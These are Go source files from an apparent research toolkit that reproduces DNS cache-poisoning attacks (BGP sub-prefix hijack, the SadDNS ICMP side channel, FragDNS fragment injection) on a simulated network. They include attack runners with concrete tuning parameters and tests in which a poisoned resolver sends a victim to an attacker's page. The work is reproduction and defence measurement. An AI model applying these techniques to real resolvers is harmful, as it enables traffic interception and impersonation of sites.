				cmp.SamePrefixRate*100)
		},
		"forwarders": func() {
			reach, shared := measure.ForwarderStudy(10000, *seed)
			fmt.Printf("recursive resolvers reachable via an open forwarder: %.0f%% (paper: 79%%)\n", reach*100)
			fmt.Printf("open resolvers with cross-application shared caches:  %.0f%% (paper: 69%%)\n", shared*100)
			fmt.Printf("dynamic end-to-end forwarder trigger check: %v\n", measure.VerifyForwarderPath(*seed))
			fmt.Printf("dynamic depth-3 forwarder chain check:      %v\n", measure.VerifyForwarderChain(*seed, 3))
		},
	}

	if *exp == "all" {
		for _, name := range []string{"table1", "table2", "table3", "table4", "table5", "table6",
			"fig3", "fig4", "fig5", "samehijack", "forwarders", "campaign"} {
			fmt.Printf("\n######## %s ########\n", strings.ToUpper(name))
			run[name]()
		}
		return
	}
	fn, ok := run[*exp]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown experiment %q\n", *exp)
		os.Exit(2)
	}
	fn()
}

// splitKeys parses a comma-separated filter flag; empty means "all".
func splitKeys(s string) []string {
	if strings.TrimSpace(s) == "" {
		return nil
	}
	var out []string
	for _, k := range strings.Split(s, ",") {
		if k = strings.TrimSpace(k); k != "" {
			out = append(out, k)
		}
	}
	return out
}

// progressPrinter renders per-dataset shard completions on stderr: a
// carriage-return ticker while a dataset scan is in flight, finalized
// with a newline when its last shard lands. Progress goes to stderr so
// redirected table output stays clean and byte-stable.
func progressPrinter(experiment string) func(measure.ProgressEvent) {
	return func(ev measure.ProgressEvent) {
		fmt.Fprintf(os.Stderr, "\r[%s] %-22s %d items, shard %d/%d",
			experiment, ev.Dataset, ev.Items, ev.DoneShards, ev.TotalShards)
		if ev.DoneShards == ev.TotalShards {
			fmt.Fprintln(os.Stderr)
		}
	}
}
