// Command xlmeasure regenerates the paper's evaluation artifacts:
// every table (1–6) and figure (1–5) of "From IP to Transport and
// Beyond" on the synthetic populations described in DESIGN.md.
//
// Usage:
//
//	xlmeasure [-exp all|table1|table2|table3|table4|table5|table6|
//	           fig1|fig2|fig3|fig4|fig5|samehijack|forwarders]
//	          [-n sampleCap] [-seed N]
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"crosslayer/internal/apps"
	"crosslayer/internal/measure"
	"crosslayer/internal/stats"
)

func main() {
	exp := flag.String("exp", "all", "experiment to regenerate")
	n := flag.Int("n", 300, "sample cap per dataset (paper sizes reach 1.58M; see DESIGN.md)")
	seed := flag.Int64("seed", 42, "population seed")
	flag.Parse()

	run := map[string]func(){
		"table1": func() { fmt.Println(measure.Table1()) },
		"table2": func() {
			tbl := &stats.Table{
				Title:  "Table 2: Query triggering behaviour at middleboxes",
				Header: []string{"Type", "Provider", "Trigger query", "Caching time", "Alexa 100K sites"},
			}
			for _, p := range apps.Table2Profiles() {
				cache := "TTL"
				if p.CacheTime > 0 {
					cache = p.CacheTime.String()
				}
				sites := "-"
				if p.AlexaSites > 0 {
					sites = fmt.Sprint(p.AlexaSites)
				}
				tbl.Add(p.Type, p.Provider, string(p.Trigger), cache, sites)
			}
			fmt.Println(tbl)
		},
		"table3": func() {
			tbl, _ := measure.Table3(*n, *seed)
			fmt.Println(tbl)
		},
		"table4": func() {
			tbl, _ := measure.Table4(*n, *seed)
			fmt.Println(tbl)
		},
		"table5": func() {
			tbl, _ := measure.Table5(*seed)
			fmt.Println(tbl)
		},
		"table6": func() {
			fmt.Println("running the three attacks end-to-end (SadDNS scans a 2000-port range)...")
			cmp := measure.RunComparison(*seed, 2000)
			_, rres := measure.Table3(*n, *seed)
			_, dres := measure.Table4(*n, *seed)
			ad := rres[6]
			al := dres[1]
			tbl := measure.Table6(cmp,
				[3]float64{frac(ad.SubPrefix, ad.Scanned), frac(ad.SadDNS, ad.Scanned), frac(ad.Frag, ad.Scanned)},
				[3]float64{frac(al.SubPrefix, al.Scanned), frac(al.SadDNS, al.Scanned), frac(al.FragAny, al.Scanned)})
			fmt.Println(tbl)
			fmt.Printf("same-prefix interception (simulated, paper ~80%%): %.0f%%\n", cmp.SamePrefixRate*100)
		},
		"fig1": func() {
			fmt.Println("Figure 1 is the SadDNS message sequence; run:  go run ./examples/saddns")
		},
		"fig2": func() {
			fmt.Println("Figure 2 is the FragDNS message sequence; run:  go run ./examples/fragdns")
		},
		"fig3": func() {
			out, _ := measure.Figure3(*n, *seed)
			fmt.Println(out)
		},
		"fig4": func() {
			out, _, _ := measure.Figure4(*n, *seed)
			fmt.Println(out)
		},
		"fig5": func() {
			out, _, _ := measure.Figure5(*n, *seed)
			fmt.Println(out)
		},
		"samehijack": func() {
			cmp := measure.RunComparison(*seed, 400)
			fmt.Printf("same-prefix hijack interception over random (stub victim, carrier attacker) pairs: %.0f%% (paper: ~80%%)\n",
				cmp.SamePrefixRate*100)
		},
		"forwarders": func() {
			reach, shared := measure.ForwarderStudy(10000, *seed)
			fmt.Printf("recursive resolvers reachable via an open forwarder: %.0f%% (paper: 79%%)\n", reach*100)
			fmt.Printf("open resolvers with cross-application shared caches:  %.0f%% (paper: 69%%)\n", shared*100)
			fmt.Printf("dynamic end-to-end forwarder trigger check: %v\n", measure.VerifyForwarderPath(*seed))
		},
	}

	if *exp == "all" {
		for _, name := range []string{"table1", "table2", "table3", "table4", "table5", "table6",
			"fig3", "fig4", "fig5", "samehijack", "forwarders"} {
			fmt.Printf("\n######## %s ########\n", strings.ToUpper(name))
			run[name]()
		}
		return
	}
	fn, ok := run[*exp]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown experiment %q\n", *exp)
		os.Exit(2)
	}
	fn()
}

func frac(a, b int) float64 {
	if b == 0 {
		return 0
	}
	return float64(a) / float64(b)
}
