// Package crosslayer is a research toolkit reproducing "From IP to
// Transport and Beyond: Cross-Layer Attacks Against Applications"
// (Dai, Jeitner, Shulman, Waidner — SIGCOMM 2021).
//
// It bundles, on a deterministic packet-level Internet simulator:
//
//   - the three off-path DNS cache-poisoning methodologies the paper
//     evaluates — BGP-interception (HijackDNS), the ICMP rate-limit
//     side channel (SadDNS) and IPv4-fragmentation injection (FragDNS);
//   - the full substrate they need: IPv4/UDP/ICMP wire formats, IP
//     defragmentation, host network stacks, Gao–Rexford BGP, RPKI,
//     authoritative nameservers and recursive resolvers with
//     per-implementation behaviour profiles;
//   - the application victims of the paper's Table 1 (email with
//     SPF/DKIM/DMARC, web, NTP, RADIUS/eduroam, XMPP, Bitcoin, VPN,
//     PKI domain validation, OCSP, RPKI relying parties, middleboxes);
//   - the §5 measurement harness that regenerates every table and
//     figure of the evaluation on calibrated synthetic populations.
//
// The facade below wires the canonical victim/attacker scenario and
// exposes one-call attack runners; the example programs under
// examples/ show typical use, and cmd/xlmeasure regenerates the
// paper's tables.
//
// # Experiments
//
// Every evaluation artifact is a registered experiment: List
// Experiments enumerates the registry (tables 1–6, figures 3–5, the
// same-prefix and forwarder studies, the campaign sweep), and
// Run(name, spec) executes one by canonical name with a uniform
// (*Report, error) return. A Report is structured data — named
// sections of typed columns and rows — rendered on demand as text
// (byte-identical to the golden artifacts), JSON, CSV or Markdown:
//
//	rep, err := crosslayer.Run("table3", crosslayer.ExperimentSpec{SampleCap: 1000, Seed: 42})
//	if err != nil { ... }
//	fmt.Println(rep)                    // the paper's table, as text
//	data, _ := crosslayer.RenderReport(rep, "json")
//
// RunContext threads a context through the sharded engine, so a long
// sweep cancels at the next shard boundary.
//
// # Parallel runs
//
// The measurement harness executes on a sharded experiment engine
// (internal/engine): each population is cut into fixed-size shards,
// every shard owns a private simulated network on its own virtual
// clock, and shards run concurrently on a worker pool sized by
// GOMAXPROCS. Shard seeds derive deterministically from the base
// seed, and shard results merge in shard order, so a given
// ExperimentSpec{SampleCap, Seed, ShardSize} produces byte-identical
// tables and figures for ANY Parallelism — parallelism buys wall-clock
// time, never different numbers. This is what lifts the practical
// sample cap from a few hundred to tens of thousands of simulated
// resolvers/domains per dataset; see DESIGN.md for the full contract.
package crosslayer

import (
	"context"
	"net/netip"

	"crosslayer/internal/campaign"
	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/measure"
	"crosslayer/internal/report"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
	"crosslayer/internal/serve"
)

// Scenario is the canonical testbed of the paper's §3 setup: a victim
// AS with a recursive resolver and application hosts, the target
// domain vict.im with its authoritative nameserver in a second AS, and
// an adversarial AS without egress filtering.
type Scenario = scenario.S

// Config tunes scenario construction.
type Config = scenario.Config

// Result carries attack telemetry (success, packets, queries,
// duration) — the quantities compared in the paper's Table 6.
type Result = core.Result

// Well-known scenario addresses.
var (
	ResolverIP = scenario.ResolverIP
	AttackerIP = scenario.AttackerIP
	NSIP       = scenario.NSIP
	VictimWWW  = scenario.VictimWWW
)

// NewScenario builds the canonical scenario.
func NewScenario(cfg Config) *Scenario { return scenario.New(cfg) }

// AttackOptions selects the record an attack should plant and bounds
// its effort.
type AttackOptions struct {
	// QName/SpoofAddr: the poisoning target; defaults to
	// www.vict.im. -> the attacker host.
	QName     string
	SpoofAddr netip.Addr
	// MaxIterations bounds probabilistic attacks.
	MaxIterations int
}

func (o *AttackOptions) fill() {
	if o.QName == "" {
		o.QName = "www.vict.im."
	}
	if !o.SpoofAddr.IsValid() {
		o.SpoofAddr = scenario.AttackerIP
	}
}

func spoofFor(o AttackOptions) core.Spoof {
	return core.Spoof{
		QName: o.QName, QType: dnswire.TypeA,
		Records: []*dnswire.RR{dnswire.NewA(o.QName, 300, o.SpoofAddr)},
	}
}

// RunHijackDNS intercepts the resolver's query with a sub-prefix
// hijack of the nameserver's block and answers it (§3.1).
func RunHijackDNS(s *Scenario, opts AttackOptions) Result {
	opts.fill()
	atk := &core.HijackDNS{
		Attacker:     s.Attacker,
		HijackPrefix: netip.MustParsePrefix("123.0.0.0/24"),
		NSAddr:       scenario.NSIP,
		Spoof:        spoofFor(opts),
	}
	return atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, opts.QName, dnswire.TypeA))
}

// RunSadDNS runs the ICMP side-channel attack (§3.2). The target
// nameserver should have response-rate limiting enabled (set
// Config.ServerCfg.RateLimit) or the genuine answer wins the race.
func RunSadDNS(s *Scenario, opts AttackOptions) Result {
	opts.fill()
	if opts.MaxIterations == 0 {
		opts.MaxIterations = 50
	}
	atk := &core.SadDNS{
		Attacker:      s.Attacker,
		ResolverAddr:  scenario.ResolverIP,
		NSAddr:        scenario.NSIP,
		Spoof:         spoofFor(opts),
		PortMin:       s.ResolverHost.Cfg.PortMin,
		PortMax:       s.ResolverHost.Cfg.PortMax,
		MuteQPS:       2 * s.NS.Cfg.RateLimitQPS,
		MaxIterations: opts.MaxIterations,
		CheckSuccess:  func() bool { return s.Poisoned(opts.QName, dnswire.TypeA) },
	}
	return atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, opts.QName, dnswire.TypeA))
}

// RunFragDNS runs the fragmentation attack (§3.3). The nameserver
// must emit large responses (set Config.ServerCfg.PadAnswersTo) so a
// reduced path MTU fragments them.
func RunFragDNS(s *Scenario, opts AttackOptions) Result {
	opts.fill()
	if opts.MaxIterations == 0 {
		opts.MaxIterations = 8
	}
	atk := &core.FragDNS{
		Attacker:      s.Attacker,
		ResolverAddr:  scenario.ResolverIP,
		NSAddr:        scenario.NSIP,
		QName:         opts.QName,
		QType:         dnswire.TypeA,
		SpoofAddr:     opts.SpoofAddr,
		ForcedMTU:     68,
		ResolverEDNS:  s.Resolver.Prof.EDNSSize,
		PredictIPID:   true,
		IPIDGuesses:   64,
		MaxIterations: opts.MaxIterations,
		CheckSuccess:  func() bool { return s.Poisoned(opts.QName, dnswire.TypeA) },
	}
	return atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, opts.QName, dnswire.TypeA))
}

// Poisoned reports whether the scenario's resolver cache holds an
// attacker-controlled record for name.
func Poisoned(s *Scenario, name string) bool {
	return s.Poisoned(name, dnswire.TypeA)
}

// ExperimentSpec is the uniform run configuration Run and RunContext
// dispatch to any registered experiment: the engine execution knobs
// (SampleCap bounds the population sampled per dataset, <= 0 scans
// the full paper-size populations up to 1.58M items; Seed selects the
// synthesized population; Parallelism/ShardSize tune the sharded
// engine) plus the campaign sweep dimensions, which experiments
// without those axes ignore. Output depends only on SampleCap, Seed,
// ShardSize and the sweep dimensions — never on Parallelism.
type ExperimentSpec = report.Spec

// Experiment is one registry entry: canonical name, one-line title,
// and the builder Run dispatches to.
type Experiment = report.Experiment

// Report is the structured result of an experiment run: name,
// parameters, sections of typed columns and rows, notes. Render it
// with String (text, byte-identical to the golden artifacts) or
// RenderReport (json, csv, md).
type Report = report.Report

// ListExperiments enumerates the registered experiments in canonical
// artifact order: tables 1–6, figures 3–5, the same-prefix and
// forwarder studies, and the campaign sweep.
func ListExperiments() []Experiment { return report.List() }

// Run executes the named experiment under the spec and returns its
// structured Report. Unknown names fail listing the valid registry
// keys; experiment failures propagate — nothing is swallowed.
func Run(name string, spec ExperimentSpec) (*Report, error) {
	return report.Run(context.Background(), name, spec)
}

// RunContext is Run under a cancellable context: population scans and
// campaign sweeps abort at the next shard boundary once ctx is
// cancelled, returning the context's error.
func RunContext(ctx context.Context, name string, spec ExperimentSpec) (*Report, error) {
	return report.Run(ctx, name, spec)
}

// RenderReport renders a Report in the named format: "text", "json",
// "csv" or "md".
func RenderReport(r *Report, format string) ([]byte, error) { return report.Render(r, format) }

// DecodeReport parses a JSON-rendered Report back into its structured
// form; re-rendering it as text reproduces the original bytes.
func DecodeReport(data []byte) (*Report, error) { return report.Decode(data) }

// ExperimentConfig is the execution-knob subset of ExperimentSpec the
// measurement packages consume directly (CampaignConfig.Exec).
type ExperimentConfig = measure.Config

// ExperimentProgress is the per-shard progress event an
// ExperimentConfig.Progress callback receives.
type ExperimentProgress = measure.ProgressEvent

// CampaignConfig controls a campaign sweep: the execution knobs (its
// Exec field is an ExperimentConfig), the method/app/profile/defense/
// chain-depth/placement/transport filters, the per-cell trial count,
// the defense-stacking lattice rank (LatticeRank 0 sweeps singletons,
// all pairs and the full stack; 1 is the historical scalar defense
// axis), and the Downgrade switch that reruns every cell under active
// transport-downgrade pressure. See Experiments.Campaign.
type CampaignConfig = campaign.Config

// CampaignFilter restricts a campaign sweep to the named registry
// keys (empty dimensions mean "all"). The defense axis is set-valued:
// Defenses bounds the base defenses the stacking lattice composes,
// DefenseSets picks exact stacks by canonical key ("0x20+shuffle").
type CampaignFilter = campaign.Filter

// DefenseSpec is one composable §6 countermeasure of the scenario's
// defense pipeline: Config.Defenses stacks any number of them, and
// scenario construction applies each spec's hook in order.
type DefenseSpec = scenario.DefenseSpec

// Canonical defense specs (the §6 countermeasures) and the registry
// the campaign's stacking lattice composes.
var (
	DefenseDNSSEC  = scenario.DefenseDNSSEC
	Defense0x20    = scenario.Defense0x20
	DefenseNoRRL   = scenario.DefenseNoRRL
	DefenseShuffle = scenario.DefenseShuffle
	BaseDefenses   = scenario.BaseDefenses
)

// CampaignCell is one measured cell of the campaign matrix.
type CampaignCell = campaign.CellResult

// RunCampaign executes the method × victim × profile × defense-set ×
// chain-depth × placement × transport cross-product (optionally
// filtered) and returns the raw cells for composition with the
// campaign renderers below. Run("campaign", spec) is the registry form returning the
// assembled Report; this cells-level entry point exists for callers
// that aggregate their own views. Output is byte-identical for any
// Parallelism, and filtered sweeps — including defense-set-filtered
// ones — reproduce the full sweep's cells exactly.
func RunCampaign(ctx context.Context, cfg CampaignConfig) ([]CampaignCell, error) {
	return campaign.RunContext(ctx, cfg)
}

// CampaignMatrix builds the per-cell success-rate/cost matrix Report
// of a campaign run's cells.
func CampaignMatrix(cells []CampaignCell) *Report { return campaign.Matrix(cells) }

// CampaignSummary builds the method × defense poisoning-rate
// aggregate of a campaign run's cells.
func CampaignSummary(cells []CampaignCell) *Report { return campaign.Summary(cells) }

// CampaignDepthTable builds the method × placement × chain-depth
// poisoning-rate aggregate of a campaign run's cells — the §4.3
// depth-vs-success view.
func CampaignDepthTable(cells []CampaignCell) *Report { return campaign.DepthTable(cells) }

// CampaignLattice builds the defense-stacking view of a campaign
// run's cells: per-set poisoning rates per method, plus the marginal
// coverage each base defense adds on top of every measured subset.
func CampaignLattice(cells []CampaignCell) *Report { return campaign.Lattice(cells) }

// CampaignTransportTable builds the method × upstream-transport
// poisoning-rate aggregate of a campaign run's cells — which attacks
// survive which encrypted transports, and what a plaintext front hop
// or an active downgrade gives back.
func CampaignTransportTable(cells []CampaignCell) *Report { return campaign.TransportTable(cells) }

// CampaignDeployTable builds the method × deployment-dataset
// poisoning-rate aggregate of a campaign run's cells, each rate
// carrying its 95% Wilson confidence half-width — the population view:
// what fraction of a deployed population each attack compromises, and
// how tightly the sample size pins that estimate down.
func CampaignDeployTable(cells []CampaignCell) *Report { return campaign.DeployTable(cells) }

// TableResult is a rendered experiment artifact; *Report satisfies
// it.
type TableResult interface{ String() string }

// DefaultServerConfig returns the baseline authoritative-server
// configuration; adjust RateLimit/PadAnswersTo to open the SadDNS and
// FragDNS attack surfaces.
func DefaultServerConfig() dnssrv.Config { return dnssrv.DefaultConfig() }

// SweepServerConfig configures a resident sweep server: listen
// address, cell-cache checkpoint path and interval, pooled-arena
// retention bound. See the serve package for the wire protocol.
type SweepServerConfig = serve.Config

// SweepServer is the campaign-as-a-service daemon behind xlmeasure
// -serve: it exposes the experiment registry over HTTP (NDJSON
// progress streaming), memoizes every campaign cell it computes in a
// content-addressed cache keyed by the cell's identity seed string —
// so overlapping filtered sweeps never recompute a shared cell, with
// results byte-identical to cold runs — and persists that cache
// across restarts through JSON checkpoints.
type SweepServer = serve.Server

// NewSweepServer builds a resident sweep server; run it with
// (*SweepServer).Run, which serves until its context is cancelled and
// then drains the job queue and flushes the final checkpoint.
func NewSweepServer(cfg SweepServerConfig) *SweepServer { return serve.New(cfg) }

// ProfileBIND and friends are the resolver implementation profiles of
// the paper's Table 5.
var (
	ProfileBIND     = resolver.ProfileBIND
	ProfileUnbound  = resolver.ProfileUnbound
	ProfilePowerDNS = resolver.ProfilePowerDNS
	ProfileSystemd  = resolver.ProfileSystemd
	ProfileDnsmasq  = resolver.ProfileDnsmasq
)
