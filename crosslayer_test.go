package crosslayer_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"crosslayer"
	"crosslayer/internal/apps"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/scenario"
)

func TestFacadeHijack(t *testing.T) {
	s := crosslayer.NewScenario(crosslayer.Config{Seed: 1})
	res := crosslayer.RunHijackDNS(s, crosslayer.AttackOptions{})
	if !res.Success || !crosslayer.Poisoned(s, "www.vict.im.") {
		t.Fatalf("facade hijack: %+v", res)
	}
}

func TestFacadeSadDNS(t *testing.T) {
	cfg := crosslayer.Config{Seed: 2}
	cfg.ServerCfg = crosslayer.DefaultServerConfig()
	cfg.ServerCfg.RateLimit = true
	cfg.ServerCfg.RateLimitQPS = 10
	s := crosslayer.NewScenario(cfg)
	s.ResolverHost.Cfg.PortMin = 32768
	s.ResolverHost.Cfg.PortMax = 32768 + 399
	res := crosslayer.RunSadDNS(s, crosslayer.AttackOptions{MaxIterations: 20})
	if !res.Success || !crosslayer.Poisoned(s, "www.vict.im.") {
		t.Fatalf("facade saddns: %+v", res)
	}
}

func TestFacadeFragDNS(t *testing.T) {
	cfg := crosslayer.Config{Seed: 3}
	cfg.ServerCfg = crosslayer.DefaultServerConfig()
	cfg.ServerCfg.PadAnswersTo = 1200
	s := crosslayer.NewScenario(cfg)
	res := crosslayer.RunFragDNS(s, crosslayer.AttackOptions{})
	if !res.Success || !crosslayer.Poisoned(s, "www.vict.im.") {
		t.Fatalf("facade fragdns: %+v", res)
	}
}

// TestFullCrossLayerChain is the end-to-end integration test: FragDNS
// poisons the cache, then the victim's web client is silently served
// by the attacker — the complete cross-layer story in one test.
func TestFullCrossLayerChain(t *testing.T) {
	cfg := crosslayer.Config{Seed: 4}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.PadAnswersTo = 1200
	s := crosslayer.NewScenario(cfg)
	apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}).Pages["/"] = "genuine"
	apps.NewWebServer(s.Attacker, apps.SelfSigned("www.vict.im.")).Pages["/"] = "evil"

	res := crosslayer.RunFragDNS(s, crosslayer.AttackOptions{})
	if !res.Success {
		t.Fatalf("attack failed: %+v", res)
	}
	wc := &apps.WebClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP}
	var body string
	wc.Get("www.vict.im.", "/", func(r apps.FetchResult) { body = r.Body })
	s.Run()
	if body != "evil" {
		t.Fatalf("victim fetched %q, want the attacker's page", body)
	}
}

// TestRegistryListsEveryArtifact pins the registry surface: every
// artifact previously reachable through the facade's func-struct —
// and every golden text artifact's source experiment — has a registry
// entry, in canonical artifact order.
func TestRegistryListsEveryArtifact(t *testing.T) {
	var names []string
	for _, e := range crosslayer.ListExperiments() {
		if e.Title == "" {
			t.Errorf("experiment %q has no title", e.Name)
		}
		names = append(names, e.Name)
	}
	want := []string{"table1", "table2", "table3", "table4", "table5", "table6",
		"fig3", "fig4", "fig5", "samehijack", "forwarders", "campaign"}
	if len(names) != len(want) {
		t.Fatalf("registry lists %v, want %v", names, want)
	}
	for i, n := range want {
		if names[i] != n {
			t.Fatalf("registry order %v, want %v", names, want)
		}
	}
}

func TestRunExperimentFacade(t *testing.T) {
	rep, err := crosslayer.Run("table5", crosslayer.ExperimentSpec{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Name != "table5" || rep.String() == "" {
		t.Fatalf("table5 report: %q", rep.Name)
	}
	// Unknown names fail listing the valid registry keys.
	_, err = crosslayer.Run("table9", crosslayer.ExperimentSpec{})
	if err == nil || !strings.Contains(err.Error(), "table9") || !strings.Contains(err.Error(), "valid:") ||
		!strings.Contains(err.Error(), "campaign") {
		t.Fatalf("unknown-experiment error %v must list valid keys", err)
	}
}

// TestRunFacadeParallel exercises a sharded table through the public
// registry with explicit parallelism and progress reporting, and
// checks the JSON projection round-trips to the same text.
func TestRunFacadeParallel(t *testing.T) {
	events := 0
	spec := crosslayer.ExperimentSpec{
		SampleCap:   60,
		Seed:        2,
		Parallelism: 4,
		ShardSize:   16,
		Progress:    func(crosslayer.ExperimentProgress) { events++ },
	}
	rep, err := crosslayer.Run("table3", spec)
	if err != nil {
		t.Fatal(err)
	}
	if rep.String() == "" {
		t.Fatal("empty table")
	}
	if events == 0 {
		t.Fatal("no progress events")
	}
	data, err := crosslayer.RenderReport(rep, "json")
	if err != nil {
		t.Fatal(err)
	}
	back, err := crosslayer.DecodeReport(data)
	if err != nil {
		t.Fatal(err)
	}
	if back.String() != rep.String() {
		t.Fatal("JSON round-trip changed the text rendering")
	}
}

// TestRunFacadeCancellation: a cancelled context aborts a sweep with
// its error instead of a partial result.
func TestRunFacadeCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := crosslayer.RunContext(ctx, "table3", crosslayer.ExperimentSpec{SampleCap: 50, Seed: 1}); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

// TestCampaignFacade exercises the campaign sweep through the public
// facade: filtered cross-product via the registry, cells-level
// composition, and filter validation with propagated errors.
func TestCampaignFacade(t *testing.T) {
	spec := crosslayer.ExperimentSpec{
		Seed:    5,
		Methods: []string{"hijack"}, Victims: []string{"web", "vpn"},
		Profiles: []string{"bind"}, ChainDepths: []string{"0", "1"},
		Placements: []string{"stub"}, Transports: []string{"udp"},
		Trials:      2,
		LatticeRank: 1, // scalar defense axis: 5 singleton sets
	}
	rep, err := crosslayer.Run("campaign", spec)
	if err != nil {
		t.Fatal(err)
	}
	for _, sec := range []string{"matrix", "summary", "depth", "transport", "lattice-sets", "lattice-marginal"} {
		if rep.Section(sec) == nil {
			t.Fatalf("campaign report missing section %q", sec)
		}
	}
	if len(rep.Section("matrix").Rows) != 20 { // 1 method × 2 victims × 1 profile × 5 defense sets × 2 depths × 1 placement
		t.Fatalf("campaign matrix: %d rows", len(rep.Section("matrix").Rows))
	}

	// Cells-level composition matches the registry report's sections.
	cfg := crosslayer.CampaignConfig{
		Exec: crosslayer.ExperimentConfig{Seed: 5},
		Filter: crosslayer.CampaignFilter{
			Methods: spec.Methods, Victims: spec.Victims, Profiles: spec.Profiles,
			ChainDepths: spec.ChainDepths, Placements: spec.Placements,
			Transports: spec.Transports,
		},
		Trials:      2,
		LatticeRank: 1,
	}
	cells, err := crosslayer.RunCampaign(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(cells) != 20 {
		t.Fatalf("campaign cells: %d", len(cells))
	}
	if got := crosslayer.CampaignMatrix(cells).Sections[0].Text(); got != rep.Section("matrix").Text() {
		t.Fatal("cells-level matrix diverged from the registry report")
	}
	if crosslayer.CampaignSummary(cells).String() == "" ||
		crosslayer.CampaignDepthTable(cells).String() == "" ||
		crosslayer.CampaignTransportTable(cells).String() == "" ||
		crosslayer.CampaignLattice(cells).String() == "" {
		t.Fatal("empty campaign rendering")
	}

	// Filter validation errors propagate through the registry path —
	// the historical facade swallowed nothing here either, but now the
	// uniform Run signature carries them for every experiment.
	bad := spec
	bad.Defenses = []string{"bogus"}
	if _, err := crosslayer.Run("campaign", bad); err == nil || !strings.Contains(err.Error(), "bogus") {
		t.Fatalf("unknown defense key: %v", err)
	}
	bad = spec
	bad.DefenseSets = []string{"shuffle+bogus"}
	if _, err := crosslayer.Run("campaign", bad); err == nil {
		t.Fatal("unknown defense-set key accepted")
	}
	// The defense pipeline is also a public scenario-level API: a
	// stacked config builds a scenario hardened by every spec.
	s := crosslayer.NewScenario(crosslayer.Config{Seed: 5,
		Defenses: []crosslayer.DefenseSpec{crosslayer.Defense0x20(), crosslayer.DefenseDNSSEC()}})
	if !s.Resolver.Prof.Use0x20 || !s.Resolver.Prof.ValidateDNSSEC {
		t.Fatal("facade defense stack did not reach the resolver profile")
	}
}
