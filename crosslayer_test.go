package crosslayer_test

import (
	"testing"

	"crosslayer"
	"crosslayer/internal/apps"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/scenario"
)

func TestFacadeHijack(t *testing.T) {
	s := crosslayer.NewScenario(crosslayer.Config{Seed: 1})
	res := crosslayer.RunHijackDNS(s, crosslayer.AttackOptions{})
	if !res.Success || !crosslayer.Poisoned(s, "www.vict.im.") {
		t.Fatalf("facade hijack: %+v", res)
	}
}

func TestFacadeSadDNS(t *testing.T) {
	cfg := crosslayer.Config{Seed: 2}
	cfg.ServerCfg = crosslayer.DefaultServerConfig()
	cfg.ServerCfg.RateLimit = true
	cfg.ServerCfg.RateLimitQPS = 10
	s := crosslayer.NewScenario(cfg)
	s.ResolverHost.Cfg.PortMin = 32768
	s.ResolverHost.Cfg.PortMax = 32768 + 399
	res := crosslayer.RunSadDNS(s, crosslayer.AttackOptions{MaxIterations: 20})
	if !res.Success || !crosslayer.Poisoned(s, "www.vict.im.") {
		t.Fatalf("facade saddns: %+v", res)
	}
}

func TestFacadeFragDNS(t *testing.T) {
	cfg := crosslayer.Config{Seed: 3}
	cfg.ServerCfg = crosslayer.DefaultServerConfig()
	cfg.ServerCfg.PadAnswersTo = 1200
	s := crosslayer.NewScenario(cfg)
	res := crosslayer.RunFragDNS(s, crosslayer.AttackOptions{})
	if !res.Success || !crosslayer.Poisoned(s, "www.vict.im.") {
		t.Fatalf("facade fragdns: %+v", res)
	}
}

// TestFullCrossLayerChain is the end-to-end integration test: FragDNS
// poisons the cache, then the victim's web client is silently served
// by the attacker — the complete cross-layer story in one test.
func TestFullCrossLayerChain(t *testing.T) {
	cfg := crosslayer.Config{Seed: 4}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.PadAnswersTo = 1200
	s := crosslayer.NewScenario(cfg)
	apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}).Pages["/"] = "genuine"
	apps.NewWebServer(s.Attacker, apps.SelfSigned("www.vict.im.")).Pages["/"] = "evil"

	res := crosslayer.RunFragDNS(s, crosslayer.AttackOptions{})
	if !res.Success {
		t.Fatalf("attack failed: %+v", res)
	}
	wc := &apps.WebClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP}
	var body string
	wc.Get("www.vict.im.", "/", func(r apps.FetchResult) { body = r.Body })
	s.Run()
	if body != "evil" {
		t.Fatalf("victim fetched %q, want the attacker's page", body)
	}
}

func TestExperimentsFacade(t *testing.T) {
	tbl, res := crosslayer.Experiments.Table5(crosslayer.ExperimentConfig{Seed: 1})
	if len(res) != 5 || tbl.String() == "" {
		t.Fatalf("table5 facade: %d rows", len(res))
	}
}

// TestExperimentsFacadeParallel exercises a sharded table through the
// public facade with explicit parallelism and progress reporting.
func TestExperimentsFacadeParallel(t *testing.T) {
	events := 0
	cfg := crosslayer.ExperimentConfig{
		SampleCap:   60,
		Seed:        2,
		Parallelism: 4,
		ShardSize:   16,
		Progress:    func(crosslayer.ExperimentProgress) { events++ },
	}
	tbl, res := crosslayer.Experiments.Table3(cfg)
	if len(res) != 9 {
		t.Fatalf("table3 facade: %d datasets", len(res))
	}
	if tbl.String() == "" {
		t.Fatal("empty table")
	}
	if events == 0 {
		t.Fatal("no progress events")
	}
}

// TestExperimentsFacadeCampaign exercises the campaign sweep through
// the public facade: filtered cross-product, rendered matrix and
// summary, and filter validation.
func TestExperimentsFacadeCampaign(t *testing.T) {
	cfg := crosslayer.CampaignConfig{
		Exec: crosslayer.ExperimentConfig{Seed: 5},
		Filter: crosslayer.CampaignFilter{
			Methods: []string{"hijack"}, Victims: []string{"web", "vpn"},
			Profiles: []string{"bind"}, ChainDepths: []string{"0", "1"},
